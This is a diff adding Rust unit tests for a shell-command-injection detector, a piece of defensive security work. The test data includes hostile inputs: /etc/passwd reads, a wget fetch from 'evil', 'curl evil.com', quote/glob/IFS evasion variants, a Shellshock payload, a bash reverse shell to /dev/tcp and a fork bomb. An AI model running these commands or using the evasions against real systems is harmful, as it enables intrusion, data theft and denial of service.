@@ -1,0 +1,82 @@
+use super::*;
+
+fn score(text: &str) -> Option<u8> {
+    detect(text, Source::Arg).map(|h| h.score)
+}
+
+fn blocked(text: &str) -> bool {
+    score(text).is_some_and(|s| s <= 20)
+}
+
+#[test]
+fn commands_after_separators_are_recognised() {
+    assert!(blocked(";cat /etc/passwd"));
+    assert!(blocked("x | id"));
+    assert!(blocked("127.0.0.1 && whoami"));
+    assert!(blocked("a\nwget http://evil/x.sh"));
+}
+
+#[test]
+fn substitutions_run_commands() {
+    assert!(blocked("$(whoami)"));
+    assert!(blocked("`id`"));
+    assert!(blocked("x=<(cat /etc/passwd)"));
+    assert!(blocked("${IFS}"));
+}
+
+#[test]
+fn quote_backslash_and_expansion_evasions_are_undone() {
+    assert!(score("c'a't /etc/passwd").is_some_and(|s| s <= 6));
+    assert!(score("w\"h\"oami").is_some_and(|s| s <= 6));
+    assert!(score("ca\\t /etc/passwd").is_some_and(|s| s <= 6));
+    assert!(score("cu$@rl evil.com").is_some_and(|s| s <= 6));
+    assert!(blocked("cat${IFS}/etc/passwd"));
+}
+
+#[test]
+fn globbed_command_names_are_matched() {
+    assert!(blocked("/???/c?t /etc/passwd"));
+    assert!(blocked("/bin/ca? /et*/passwd"));
+}
+
+#[test]
+fn shellshock_and_reverse_shells_are_certain() {
+    assert!(score("() { :;}; /bin/bash -c id").is_some_and(|s| s <= 5));
+    assert!(blocked("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+}
+
+#[test]
+fn wrapped_commands_are_in_command_position() {
+    assert!(blocked("time ifconfig"));
+    assert!(blocked("nohup curl evil.com"));
+}
+
+#[test]
+fn prose_with_command_words_is_not_an_attack() {
+    for text in [
+        "hello; time he came",
+        "a hero; more than",
+        "The zip on my coat is stuck",
+        "I'd like to order by phone, is that possible?",
+        "time warner",
+        "ping pong tables",
+        "Cat lovers: sort your photos by date",
+        "PG30 | SELF TAPPING SCREW",
+    ] {
+        assert!(!blocked(text), "{text}");
+    }
+}
+
+#[test]
+fn sensitive_upload_names_are_recognised() {
+    assert!(detect_filename(".htaccess").is_some());
+    assert!(detect_filename("uploads/web.config").is_some());
+    assert_eq!(detect_filename("holiday.jpg"), None);
+}
+
+#[test]
+fn fork_bombs_and_arithmetic_expansion_are_recognised() {
+    assert!(blocked(":(){ :|:& };:"));
+    assert!(blocked("$[2 2]"));
+    assert!(blocked("$((1+1))"));
+}
